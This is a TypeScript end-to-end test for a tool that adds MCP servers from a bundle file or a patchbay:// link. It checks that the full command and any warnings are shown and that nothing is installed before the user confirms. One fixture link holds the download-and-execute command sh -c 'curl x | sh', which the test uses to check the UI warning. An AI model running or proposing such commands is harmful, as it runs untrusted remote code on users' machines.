// Adding a server from a bundle or a link in the page: nothing happens before a yes, and what is shown is whole.
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { openPage } from '../support/open-page.ts';
import { startPatchbay } from '../support/patchbay.ts';
import { stickingOut } from '../support/sticking-out.ts';
import { takePictures } from '../support/take-pictures.ts';
import { tempFolder } from '../support/temp-folder.ts';
import { zipFile } from '../support/zip-file.ts';
import { useScenes } from './scenes.ts';

const openScene = useScenes();

test('a link and a bundle are shown whole, settled and added by a yes alone', async () => {
  const folder = await tempFolder();
  const file = join(folder, 'notes.mcpb');
  const manifest = {
    manifest_version: '0.3',
    name: 'notes',
    display_name: 'My notes',
    version: '1.0.0',
    description: 'Reads notes.',
    author: { name: 'Ada' },
    server: {
      type: 'node',
      entry_point: 'x.js',
      mcp_config: {
        command: 'node',
        args: ['${__dirname}/x.js', '${user_config.dir}'],
        env: { KEY: '${user_config.key}' },
      },
    },
    user_config: {
      dir: { type: 'directory', title: 'Folder', description: 'What to read.', required: true },
      key: { type: 'string', title: 'Key', description: '', required: true, sensitive: true },
      deep: { type: 'boolean', title: 'Deep', description: '' },
    },
  };
  await writeFile(
    file,
    zipFile([
      { name: 'manifest.json', data: JSON.stringify(manifest) },
      { name: 'x.js', data: '' },
    ]),
  );
  const scene = await openScene({});
  const patchbay = await startPatchbay({}, { homeDir: folder, console: { port: 0, pageDir: scene.pageDir } });
  const servers = (): readonly string[] => patchbay.core.state.get().servers.map(({ name }) => name);
  const link = `patchbay://add?name=linked&command=sh&arg=-c&arg=${encodeURIComponent('curl x | sh')}`;
  const opened = await openPage(
    scene.browser,
    { link: () => patchbay.core.consoleLink() ?? '' },
    {
      hash: `#/clients/add/${encodeURIComponent(link)}`,
    },
  );
  const { page } = opened;
  await page.getByRole('heading', { name: 'Add from a file or a link' }).waitFor();
  await page.getByRole('button', { name: 'Read', exact: true }).click();
  await page.getByRole('button', { name: 'Review' }).click();
  await page.getByText("sh -c 'curl x | sh'").waitFor();
  await page.getByText('downloads something and runs it straight away').waitFor();
  expect(servers()).not.toContain('linked');
  await page.getByRole('button', { name: 'Add server' }).click();
  await page.getByText('linked is added.').waitFor();
  expect(servers()).toContain('linked');

  await page.getByRole('textbox', { name: 'File, address or link' }).fill(file);
  await page.getByRole('button', { name: 'Read', exact: true }).click();
  await page.getByRole('heading', { name: 'My notes 1.0.0' }).waitFor();
  await takePictures(page, 'offer');
  await page.getByRole('textbox', { name: 'Folder' }).fill('/tmp/notes');
  await page.getByRole('textbox', { name: 'Key' }).fill('sk-0123456789');
  await page.getByRole('button', { name: 'Review' }).click();
  await page.getByText('Kept as secrets: notes_key').waitFor();
  await takePictures(page, 'offer-review');
  expect(await stickingOut(page)).toEqual([]);
  await page.getByRole('button', { name: 'Add server' }).click();
  await page.getByText('notes is added.').waitFor();
  expect(servers()).toContain('notes');
  expect(opened.complaints).toEqual([]);
  await opened.close();
});
